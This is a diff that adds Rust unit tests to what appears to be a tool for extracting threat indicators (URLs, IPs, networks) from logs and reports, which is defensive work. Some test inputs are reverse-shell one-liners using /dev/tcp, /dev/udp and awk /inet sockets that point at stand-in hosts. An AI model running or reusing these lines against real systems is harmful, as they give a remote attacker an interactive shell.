@@ -76,6 +76,125 @@ fn the_users_own_names_and_sources_are_left_unticked() {
 }
 
 #[test]
+fn a_url_is_asked_for_as_it_is_meant_however_its_signs_are_escaped() {
+    for (text, url) in [
+        (r"CEF:0|a|request=http://evil.test/gate.php?id\=7&u\=a", "http://evil.test/gate.php?id=7&u=a"),
+        (r#"log: {"u":"http:\/\/evil.test\/a\/b"}"#, "http://evil.test/a/b"),
+        (r#"log: {"u":"http:\\/\\/evil.test\\/a\\/b"}"#, "http://evil.test/a/b"),
+        (r#"at "http://evil.test/a\n""#, "http://evil.test/a"),
+        (r#"at "http://evil.test/a\r\nHost: x""#, "http://evil.test/a"),
+        (r#"at "http://evil.test\r\nHost: x""#, "http://evil.test"),
+        (r#"at "http://evil.test/a\tb""#, "http://evil.test/a"),
+        (r#"at "http://evil.test/\x41""#, "http://evil.test/"),
+        (r#"at \"http://evil.test/a\" x"#, "http://evil.test/a"),
+        (r"at http://evil.test/a\u0026b\u003d1", "http://evil.test/a&b=1"),
+        (r"at http://evil.test/a\u0022,", "http://evil.test/a"),
+        (r"at http://evil.test/a\_b\-c", "http://evil.test/a_b-c"),
+        (r"at http://evil.test\a\b.exe", "http://evil.test/a/b.exe"),
+        (r"at http://evil.test\\a\\b.exe", "http://evil.test/a/b.exe"),
+        (r"at http:\\evil.test\a", "http://evil.test/a"),
+        (r"at http://evil.test/a?f=C:\Windows\temp\x", r"http://evil.test/a?f=C:\Windows\temp\x"),
+        (r"at http://evil.test/a?f=C:\temp#\x", r"http://evil.test/a?f=C:\temp#\x"),
+    ] {
+        assert_eq!(ticked(text), [url], "{text}");
+    }
+}
+
+#[test]
+fn of_urls_behind_escaped_line_ends_each_is_found() {
+    let text = r#"log "http://a.test/x\nhttp://b.test/y\r\nhttps://c.test/z""#;
+    assert_eq!(ticked(text), ["http://a.test/x", "http://b.test/y", "https://c.test/z"]);
+}
+
+#[test]
+fn a_network_in_quotes_or_before_a_sign_is_a_network_and_no_url() {
+    for (text, address) in [
+        ("'198.51.100.0/24'", "198.51.100.0"),
+        ("net 198.51.100.0/24.", "198.51.100.0"),
+        ("net 198.51.100.0/24: x", "198.51.100.0"),
+        ("['198.51.100.7/32']", "198.51.100.7"),
+        ("net = '198.51.100.0/24'_", "198.51.100.0"),
+        ("2001:db8::/32", "2001:db8::"),
+        ("'2001:db8:1::/48'", "2001:db8:1::"),
+        ("ISSUBSET '2001:db8::7/128'", "2001:db8::7"),
+    ] {
+        let found = items(text);
+        let told: Vec<_> = found.iter().map(|item| (item.indicator.value(), item.reason.as_ref())).collect();
+        assert_eq!(told, [(address.to_owned(), Some(&Decoy::Network))], "{text}");
+    }
+    let found: Vec<String> =
+        items("198.51.100.0/24-203.0.113.0/24").iter().map(|item| item.indicator.value()).collect();
+    assert_eq!(found, ["198.51.100.0", "203.0.113.0"]);
+}
+
+#[test]
+fn an_address_before_its_protocol_is_an_address_and_no_url() {
+    for text in
+        ["198.51.100.7/tcp", "198.51.100.7:443/tcp", "'198.51.100.7/UDP'", "198.51.100.7/icmp.", "198.51.100.7:53/udp:"]
+    {
+        assert_eq!(ticked(text), ["198.51.100.7"], "{text}");
+    }
+}
+
+#[test]
+fn hosts_that_a_shell_or_awk_connects_to_are_found() {
+    for (text, host) in [
+        ("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "198.51.100.7"),
+        ("sh -c 'exec 5<>/dev/udp/evil.test/53;cat <&5'", "evil.test"),
+        ("cat>/dev/tcp/2001:db8::7/80", "2001:db8::7"),
+        ("s=\"/inet/tcp/0/198.51.100.7/4444\"", "198.51.100.7"),
+        ("s = \"/inet4/udp/0/evil.test/53\"", "evil.test"),
+        ("'/dev/tcp/198.51.100.7/443'", "198.51.100.7"),
+    ] {
+        assert_eq!(ticked(text), [host], "{text}");
+    }
+    assert_eq!(ticked("echo > /dev/tcp/$HOST/$PORT"), Vec::<String>::new());
+}
+
+#[test]
+fn both_ends_of_a_connection_are_found_where_a_dot_stands_before_the_port() {
+    let text = "12:00:00.1 IP 198.51.100.7.443 > 203.0.113.9.50000: Flags [S], seq 1";
+    assert_eq!(ticked(text), ["198.51.100.7", "203.0.113.9"]);
+    let text = "12:00:00.1 IP6 2001:db8::6810:84e5.443 > 2001:db8::7.50000: Flags [.], ack 1";
+    assert_eq!(ticked(text), ["2001:db8::6810:84e5", "2001:db8::7"]);
+    for text in ["version 1.2.3.4.5", "OID 198.51.100.7.443", "IP 198.51.100.7.443000 > x"] {
+        assert_eq!(ticked(text), Vec::<String>::new(), "{text}");
+    }
+}
+
+#[test]
+fn a_url_whose_host_is_one_number_is_found() {
+    for (text, url) in [
+        ("GET http://3325256711/inv", "http://3325256711/inv"),
+        ("hxxp://3325256711/x", "http://3325256711/x"),
+        ("at http://0xc6336407/x", "http://0xc6336407/x"),
+        ("at http://3325256711:8080/x", "http://3325256711:8080/x"),
+    ] {
+        assert_eq!(ticked(text), [url], "{text}");
+    }
+    for text in ["http://1/a", "http://99999999999/a", "http://0x/a", "http://2130706433/a"] {
+        assert_eq!(ticked(text), Vec::<String>::new(), "{text}");
+    }
+}
+
+#[test]
+fn a_name_with_a_label_of_three_x_is_listed_with_its_doubt_and_a_path_with_them_is_a_path() {
+    for (text, value) in [
+        ("see xxx.evil.test now", "xxx.evil.test"),
+        ("see http://xxx.evil.test/a", "http://xxx.evil.test/a"),
+        ("see https://cdn.xxx.test/a", "https://cdn.xxx.test/a"),
+    ] {
+        let found = items(text);
+        let told: Vec<_> =
+            found.iter().map(|item| (item.indicator.value(), item.ticked, item.reason.clone())).collect();
+        assert_eq!(told, [(value.to_owned(), false, Some(Decoy::Incomplete))], "{text}");
+    }
+    assert_eq!(ticked("see http://198.51.100.7/xxx.sh"), ["http://198.51.100.7/xxx.sh"]);
+    assert_eq!(ticked("see http://evil.test/a/xxx.php?x=1"), ["http://evil.test/a/xxx.php?x=1"]);
+    assert_eq!(ticked("hxxp://xxx[.]xxx[.]xxx[.]7/a and 198.51.xxx.7"), Vec::<String>::new());
+}
+
+#[test]
 fn among_defanged_names_a_live_link_is_a_source() {
     let defanged = "a[.]evil.test b[.]evil.test c[.]evil.test d[.]evil.test e[.]evil.test";
     let live = "https://blog.lab.test/report and 198.51.100.7";
